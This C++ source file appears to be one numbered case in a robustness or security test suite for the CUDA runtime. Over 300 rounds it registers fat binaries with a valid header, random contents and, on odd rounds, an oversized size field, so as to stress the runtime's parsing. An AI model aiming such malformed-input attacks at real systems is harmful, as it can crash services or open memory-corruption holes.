// Passes malformed fat binaries to the runtime library.
extern "C" void **__cudaRegisterFatBinary(void *);
extern "C" void __cudaRegisterFatBinaryEnd(void **);

ATTACK(54)
{
    static unsigned char data[4096];
    static struct {
        unsigned magic, version;
        void *data, *more;
    } wrapper = {0x466243b1, 1, data, NULL};
    for (int round = 0; round < 300; ++round) {
        srand(round);
        for (unsigned char &byte : data)
            byte = (unsigned char)rand();
        memcpy(data, "\x50\xed\x55\xba\x01\x00\x10\x00", 8); // the container begins correctly
        if (round % 2) {
            memset(data + 8, 0xff, 8); // its size is the largest possible
            memcpy(data + 16, "\x01\x00\x01\x01\x40\x00\x00\x00", 8);
        }
        __cudaRegisterFatBinaryEnd(__cudaRegisterFatBinary(&wrapper));
    }
    return honest(stage);
}
